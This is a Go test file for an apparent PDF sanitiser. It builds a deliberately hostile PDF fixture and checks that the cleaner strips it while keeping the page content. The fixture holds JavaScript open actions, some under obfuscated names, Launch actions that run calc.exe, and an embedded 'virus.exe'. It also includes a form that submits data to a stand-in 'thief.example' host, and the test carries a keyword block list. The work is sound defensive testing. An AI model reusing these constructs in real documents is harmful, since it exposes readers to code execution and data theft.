package evidence

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
)

// pdfOf writes objects 1, 2, 3 … as a file; the first is the catalogue.
func pdfOf(objects ...string) []byte { return pdfWith("", objects...) }

func pdfWith(trailer string, objects ...string) []byte {
	var out bytes.Buffer
	out.WriteString("%PDF-1.7\n")
	var offsets []int
	for i, o := range objects {
		offsets = append(offsets, out.Len())
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	table := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, offset := range offsets {
		fmt.Fprintf(&out, "%010d 00000 n \n", offset)
	}
	fmt.Fprintf(&out, "trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, trailer, table)
	return out.Bytes()
}

func stream(dict, content string) string {
	return fmt.Sprintf("<<%s/Length %d>>\nstream\n%s\nendstream", dict, len(content), content)
}

const pagesOfOne = "<</Type/Pages/Kids[3 0 R]/Count 1>>"

func onePage() []byte {
	return pdfOf("<</Type/Catalog/Pages 2 0 R/Lang(fr-FR)>>", pagesOfOne,
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R>>", stream("", "0 0 1 rg 10 10 50 50 re f"))
}

func manyPages(n int) []byte {
	objects := []string{"<</Type/Catalog/Pages 2 0 R>>", ""}
	var kids strings.Builder
	for i := range n {
		fmt.Fprintf(&kids, "%d 0 R ", i+3)
		objects = append(objects, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>")
	}
	objects[1] = fmt.Sprintf("<</Type/Pages/Kids[%s]/Count %d>>", kids.String(), n)
	return pdfOf(objects...)
}

// scripted is a page with all that a PDF can do on being opened, clicked or
// unpacked, under plain and under written-out names.
func scripted() []byte {
	script := "<</S/JavaScript/JS(app.alert\\(1\\))>>"
	return pdfWith("/Info 13 0 R",
		"<</Type/Catalog/Pages 2 0 R/OpenAction "+script+"/AA<</WC 5 0 R>>/Names 6 0 R/AF[7 0 R]/Metadata 12 0 R/AcroForm<</DA(/Helv 0 Tf)/Fields[10 0 R]/XFA 14 0 R>>/#4fpenAction 5 0 R>>",
		pagesOfOne,
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/AA<</O 5 0 R>>/Metadata 12 0 R/LastModified(D:20260101)/Annots 9 0 R>>",
		stream("", "0 0 1 rg 10 10 50 50 re f"),
		"<</S/Java#53cript/J#53(app.alert\\(2\\))/Next<</S/Launch/F(calc.exe)>>>>",
		"<</JavaScript<</Names[(a) "+script+"]>>/EmbeddedFiles<</Names[(virus.exe) 7 0 R]>>>>",
		"<</Type/Filespec/F(virus.exe)/UF(virus.exe)/EF<</F 8 0 R>>/AFRelationship/Data>>",
		stream("/Type/EmbeddedFile", "MZ the second file"),
		`[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(calc.exe)>>>>
		  <</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert)>>>>
		  <</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://boreal.example/facture)/Next 5 0 R>>>>
		  <</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 7 0 R>>
		  <</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 11 0 R>>
		  10 0 R]`,
		"<</Type/Annot/Subtype/Widget/FT/Tx/DA(/Helv 0 Tf)/T(nom)/Rect[0 0 9 9]/AA<</K 5 0 R>>/A "+script+">>",
		"<</S/SubmitForm/F(https://thief.example)>>",
		stream("/Type/Metadata/Subtype/XML", "<x:xmpmeta>Claire Vasseur</x:xmpmeta>"),
		"<</Author(Claire Vasseur)/Producer(SECRET-PC)/CreationDate(D:20260303)>>",
		stream("", "<xdp:xdp><script>xfa.host</script></xdp:xdp>"))
}

func locked(t *testing.T, password string) []byte {
	t.Helper()
	c := model.NewAESConfiguration(password, "owner", 256)
	var out bytes.Buffer
	if err := api.Encrypt(bytes.NewReader(onePage()), &out, c); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// packed has n lists of one object each, a text of size bytes, that its page
// refers to.
func packed(t *testing.T, n, size int) []byte {
	t.Helper()
	const first = 1000
	var refs strings.Builder
	for i := range n {
		fmt.Fprintf(&refs, "%d 0 R ", first+i)
	}
	var out bytes.Buffer
	out.WriteString("%PDF-1.7\n")
	offsets := map[int]int{}
	write := func(number int, object string) {
		offsets[number] = out.Len()
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", number, object)
	}
	write(1, "<</Type/Catalog/Pages 2 0 R>>")
	write(2, pagesOfOne)
	write(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Kept["+refs.String()+"]>>")
	for i := range n {
		var b bytes.Buffer
		w := zlib.NewWriter(&b)
		index := fmt.Sprintf("%d 0 ", first+i)
		fmt.Fprintf(w, "%s(%s)", index, strings.Repeat("a", size))
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		write(10+i, stream(fmt.Sprintf("/Type/Obj#53tm/N 1/First %d/Filter/FlateDecode", len(index)), b.String()))
	}
	number := first + n
	offsets[number] = out.Len()
	var table []byte
	for i := range number + 1 {
		switch offset, there := offsets[i]; {
		case i >= first && i < number:
			table = append(binary.BigEndian.AppendUint32(append(table, 2), uint32(10+i-first)), 0)
		case there:
			table = append(binary.BigEndian.AppendUint32(append(table, 1), uint32(offset)), 0)
		default:
			table = append(table, 0, 0, 0, 0, 0, 0)
		}
	}
	fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n", number,
		stream(fmt.Sprintf("/Type/XRef/Size %d/W[1 4 1]/Root 1 0 R", number+1), string(table)), offsets[number])
	return out.Bytes()
}

func TestAPDFKeepsItsPagesAndNothingThatActs(t *testing.T) {
	sent := scripted()
	f := take(t, "facture.pdf", sent)
	if f.MediaType != PDF || f.Name != "facture.pdf" || f.Pages != 1 {
		t.Fatalf("%+v", f)
	}
	for _, bad := range []string{
		"JavaScript", "/JS", "app.alert", "OpenAction", "/AA", "Launch", "calc.exe", "SubmitForm", "thief", "javascript:", "EmbeddedFile",
		"virus", "MZ", "Filespec", "FileAttachment", "Metadata", "xmpmeta", "Vasseur", "SECRET", "CreationDate", "/Info", "XFA", "xfa", "LastModified", "/Next",
	} {
		if bytes.Contains(f.Content, []byte(bad)) {
			t.Errorf("it still holds %q", bad)
		}
	}
	for _, good := range []string{"0 0 1 rg 10 10 50 50 re f", "https://boreal.example/facture", "/MediaBox", "/Widget"} {
		if !bytes.Contains(f.Content, []byte(good)) {
			t.Errorf("it has lost %q", good)
		}
	}
	if again := take(t, "facture.pdf", f.Content); again.Hash != f.Hash {
		t.Error("cleaned again, it is another file")
	}
}

func TestObjectsInPackedListsAreCopied(t *testing.T) {
	if f := take(t, "facture.pdf", packed(t, 3, 100)); !bytes.Contains(f.Content, []byte(strings.Repeat("a", 100))) {
		t.Fatal("what was packed is lost")
	}
}

func TestAPhotoInAPDFTellsNoPlace(t *testing.T) {
	photo := withExif(jpegOf(t, quarters(64, 48)), exifBlock(binary.BigEndian, 1))
	sent := pdfOf("<</Type/Catalog/Pages 2 0 R>>", pagesOfOne,
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>", stream("", "q 64 0 0 48 0 0 cm /I Do Q"),
		stream("/Type/XObject/Subtype/Image/Width 64/Height 48/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode", string(photo)))
	f := take(t, "scan.pdf", sent)
	for _, secret := range secrets {
		if bytes.Contains(f.Content, []byte(secret)) {
			t.Errorf("the photo inside still tells %q", secret)
		}
	}
	begin, end := bytes.Index(f.Content, []byte("\xff\xd8\xff")), bytes.LastIndex(f.Content, []byte("\xff\xd9"))
	if begin < 0 || end < 0 || corners(t, f.Content[begin:end+2]) != corners(t, photo) {
		t.Error("the photo inside is another")
	}
}

func TestAFaultyFormDoesNotCostThePages(t *testing.T) {
	sent := bytes.Replace(scripted(), []byte("/DA(/Helv 0 Tf)/Fields"), []byte("/NA(/Helv 0 Tf)/Fields"), 1)
	sent = bytes.Replace(sent, []byte("/FT/Tx/DA"), []byte("/FT/Tx/NA"), 1)
	f := take(t, "formulaire.pdf", sent)
	if bytes.Contains(f.Content, []byte("AcroForm")) || !bytes.Contains(f.Content, []byte("0 0 1 rg 10 10 50 50 re f")) {
		t.Fatalf("%s", f.Content)
	}
}
